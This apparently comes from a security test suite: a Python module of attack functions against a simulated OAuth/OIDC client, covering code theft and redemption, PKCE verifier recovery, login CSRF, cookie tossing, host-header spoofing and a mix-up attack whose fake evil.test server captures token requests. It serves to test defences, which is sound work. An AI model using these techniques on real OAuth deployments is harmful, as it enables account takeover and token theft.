"""Attacks on a client, each a function from its world to whether the attacker has won.

Where the prize is a token, the attacker redeems the code as any public client would; where it is a
session at the client, the session must show the wrong person.
"""

import base64
import io
import json
import marshal
import zipfile
from collections.abc import Awaitable, Callable
from typing import Any
from urllib.parse import urlencode, urlsplit

import httpx
from starlette.requests import Request
from starlette.responses import JSONResponse
from starlette.types import Receive, Scope, Send

from tests.victim.client.conftest import ALICE, ENTRY, ISSUER, MALLORY, Contoso, query
from victim.client import Provider, waiting_place
from victim.identity_provider.pkce import s256

type Attack = Callable[[Contoso], Awaitable[bool]]

OWN_VERIFIER = "a-verifier-of-the-attackers-own-choice-0123456789"
EVIL = "https://evil.test"
EVIL_PROVIDER = Provider(
    EVIL, f"{EVIL}/authorize", f"{EVIL}/token", f"{EVIL}/me", f"{EVIL}/jwks", f"{EVIL}/par"
)


async def redeem_alone(world: Contoso) -> bool:
    """A code is redeemed by somebody who knows nothing else."""
    return await _redeem(world, await _stolen(world))


async def redeem_with_challenge(world: Contoso) -> bool:
    """A code is redeemed by somebody who saw the authorization request."""
    redirect = await _stolen(world)
    challenge = _seen_challenge(world)
    return challenge is not None and await _redeem(world, redirect, challenge)


async def redeem_with_own_challenge(world: Contoso) -> bool:
    """A code is redeemed by somebody who saw the authorization request of a login of its own."""
    redirect = await _stolen(world)
    own = query((await world.browser("thief").get(ENTRY)).headers["location"])
    return "code_challenge" in own and await _redeem(world, redirect, own["code_challenge"])


async def redeem_with_app(world: Contoso) -> bool:
    """A code is redeemed by somebody who downloaded the app and saw the authorization request."""
    redirect = await _stolen(world)
    package = await world.browser("thief").get(f"{ENTRY}/package.zip")
    if package.status_code != 200:
        return False
    for verifier in _made_by(package.content):
        if _seen_challenge(world) in {verifier, s256(verifier)}:
            return await _redeem(world, redirect, verifier)
    return False


async def redeem_with_state(world: Contoso) -> bool:
    """A code is redeemed by somebody who reads the state beside it."""
    redirect = await _stolen(world)
    for verifier in _in_state(query(redirect).get("state", "")):
        if await _redeem(world, redirect, verifier):
            return True
    return False


async def redeem_with_cookies(world: Contoso) -> bool:
    """A code is redeemed by somebody who receives the redirect with its cookies."""
    victim = world.browser("victim")
    redirect = await world.sign_in(victim)
    cookies = victim.build_request("GET", redirect).headers.get("cookie", "")
    for cookie in cookies.split("; "):
        if await _redeem(world, redirect, cookie.partition("=")[2]):
            return True
    return False


async def inject_code(world: Contoso) -> bool:
    """A stolen code is brought as the answer to the attacker's own login."""
    code = query(await _stolen(world))["code"]
    attacker = world.browser("attacker")
    own = await world.sign_in(attacker, MALLORY)
    await attacker.get(_altered(own, code=code))
    return await world.who(attacker) == ALICE.subject


async def bring_stolen_redirect(world: Contoso) -> bool:
    """A stolen redirect is brought, state and all, by a browser with a login of its own."""
    redirect = await _stolen(world)
    attacker = world.browser("attacker")
    await attacker.get(ENTRY)
    await attacker.get(redirect)
    return await world.who(attacker) == ALICE.subject


async def force_login(world: Contoso) -> bool:
    """The attacker's own redirect is forced on a victim who has begun a login."""
    forced = await world.sign_in(world.browser("attacker"), MALLORY)
    victim = world.browser("victim")
    await world.sign_in(victim)
    await victim.get(forced)
    return await world.who(victim) == MALLORY.subject


async def replay_afterwards(world: Contoso) -> bool:
    """A redirect that has served its purpose is brought once more, by another browser."""
    victim, attacker = world.browser("victim"), world.browser("attacker")
    redirect = await world.sign_in(victim)
    await victim.get(redirect)
    await attacker.get(redirect)
    return await world.who(attacker) == ALICE.subject


async def lend_link(world: Contoso) -> bool:
    """The victim follows a link that names the attacker's session."""
    attacker, victim = world.browser("attacker"), world.browser("victim")
    await attacker.get(ENTRY)
    name = next(cookie.value for cookie in attacker.cookies.jar if "contoso" in cookie.name)
    await victim.get(await world.sign_in(victim, url=f"{ENTRY}?{urlencode({'for': name})}"))
    return await world.who(attacker) == ALICE.subject


async def toss_cookie(world: Contoso) -> bool:
    """A neighbouring host has set the session cookie of the victim's browser."""
    victim, attacker = world.browser("victim"), world.browser("attacker")
    for browser in (victim, attacker):
        # The browser keeps no cookie with the prefix __Host- that another host sets.
        browser.cookies.set("contoso_session", "chosen-by-mallory", domain="app.contoso.test")
    await world.log_in(victim)
    return await world.who(attacker) == ALICE.subject


async def read_told_address(world: Contoso) -> bool:
    """A partner's site reads in the Referer where its badge was shown, code and all."""
    page = await world.log_in(world.browser())
    return "partner.test" in page.text and page.headers["referrer-policy"] == "unsafe-url"


async def run_on_error_page(world: Contoso) -> bool:
    """A partner's script reads the address of a login that was made to fail."""
    page = await world.browser().get(f"{ENTRY}?code=unused&state=lost")
    return page.status_code == 400 and '<script src="https://partner.test' in page.text


async def open_its_pages(world: Contoso) -> bool:
    """Somebody's page opens the login of another browser, and is told where it has ended."""
    page = await world.browser().get(f"{ENTRY}?code=unused&state=lost")
    return page.status_code == 400 and "opener?.postMessage(location.href, '*')" in page.text


async def claim_host(world: Contoso) -> bool:
    """A header of the attacker's says under which name the client was reached."""
    headers = {"X-Forwarded-Host": "evil.test"}
    started = await world.browser("attacker").get(ENTRY, headers=headers)
    asked_for = query(started.headers["location"])["redirect_uri"]
    return urlsplit(asked_for).hostname == "evil.test"


async def be_first(world: Contoso) -> bool:
    """Another process listens at the port at which the native app was last seen."""
    first, again = (waiting_place(world.endpoint.habits, 8400)[0] for _ in range(2))
    return first == again != "0"


async def listen_beside(world: Contoso) -> bool:
    """Another process listens at the port at which the native app waits."""
    return "shared" in waiting_place(world.endpoint.habits, 8400)


async def unpack_secret(world: Contoso) -> bool:
    """Somebody reads the client's secret in a copy of its app; the world's client must have one."""
    package = await world.browser("thief").get(f"{ENTRY}/package.zip")
    modules = _modules_of(package.content) if package.status_code == 200 else []
    secret = world.endpoint.client_secret
    return secret is not None and secret in [each.get("CLIENT_SECRET") for each in modules]


async def have_own_flow_allowed(world: Contoso) -> bool:
    """The victim allows a flow of the attacker's; the world's client must have had a secret."""
    request = {
        "response_type": "code",
        "client_id": "contoso",
        "redirect_uri": world.endpoint.redirect_uri,
        "scope": "openid",
        "code_challenge": s256(OWN_VERIFIER),
        "code_challenge_method": "S256",
        "nonce": "any",
    }
    url = f"{ISSUER}/authorize?{urlencode(request)}"
    redirect = await world.sign_in(world.browser("victim"), url=url)
    return await _redeem(world, redirect, OWN_VERIFIER)


async def mix_up(world: Contoso) -> bool:
    """The victim chose the attacker's server, which sends them on to the honest one.

    The world must have the attacker's server for its client's provider.
    """
    evil = _EvilServer()
    world.servers["evil.test"] = evil
    victim = world.browser("victim")
    request = query((await victim.get(ENTRY)).headers["location"])
    on = urlencode({**request, "client_id": "contoso"})
    redirect = await world.sign_in(victim, url=f"{ISSUER}/authorize?{on}")
    await victim.get(redirect)
    return any([await _redeem(world, redirect, form.get("code_verifier")) for form in evil.forms])


async def _stolen(world: Contoso) -> str:
    """The redirect of a login of the victim's, which never reached the client."""
    return await world.sign_in(world.browser("victim"))


async def _redeem(world: Contoso, redirect: str, verifier: str | None = None) -> bool:
    form = {
        "grant_type": "authorization_code",
        "client_id": "contoso",
        "redirect_uri": world.endpoint.redirect_uri,
        "code": query(redirect)["code"],
        **({"code_verifier": verifier} if verifier else {}),
    }
    thief = world.browser("thief")
    tokens = (await thief.post(f"{ISSUER}/token", data=form)).json()
    if "access_token" not in tokens:
        return False
    bearer = {"Authorization": f"Bearer {tokens['access_token']}"}
    claims = (await thief.get(f"{ISSUER}/userinfo", headers=bearer)).json()
    return bool(claims["sub"] == ALICE.subject)


def _seen_challenge(world: Contoso) -> str | None:
    seen = [query(str(sent.request.url)) for sent in world.sent if sent.by == "victim"]
    return next((each["code_challenge"] for each in seen if "code_challenge" in each), None)


def _made_by(package: bytes) -> list[str]:
    """The verifiers that a downloaded app makes, by running it."""
    found: list[str] = []
    for module in _modules_of(package):
        found += module["candidates"]() if "candidates" in module else []
        found += [module["CODE_VERIFIER"]] if "CODE_VERIFIER" in module else []
    return found


def _modules_of(package: bytes) -> list[dict[str, Any]]:
    """What the modules of an app define."""
    found = []
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        for name in archive.namelist():
            if name.endswith(".pyc"):
                module: dict[str, Any] = {}
                exec(marshal.loads(archive.read(name)[16:]), module)
                found.append(module)
    return found


def _in_state(state: str) -> list[str]:
    """What may be a verifier in a state: all of it, or a member of JSON in any of its parts."""
    found = [state] if state else []
    for part in state.split("."):
        try:
            found.append(json.loads(_unbase64(part))["code_verifier"])
        except (ValueError, KeyError, TypeError):
            continue
    return found


def _unbase64(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def _altered(redirect: str, **parameters: str) -> str:
    return f"{redirect.partition('?')[0]}?{urlencode({**query(redirect), **parameters})}"


class _EvilServer:
    """The attacker's token endpoint: it keeps what it is sent."""

    def __init__(self) -> None:
        self.forms: list[dict[str, str]] = []

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        body = await Request(scope, receive).body()
        self.forms.append(dict(httpx.QueryParams(body.decode())))
        await JSONResponse({"error": "invalid_grant"}, 400)(scope, receive, send)
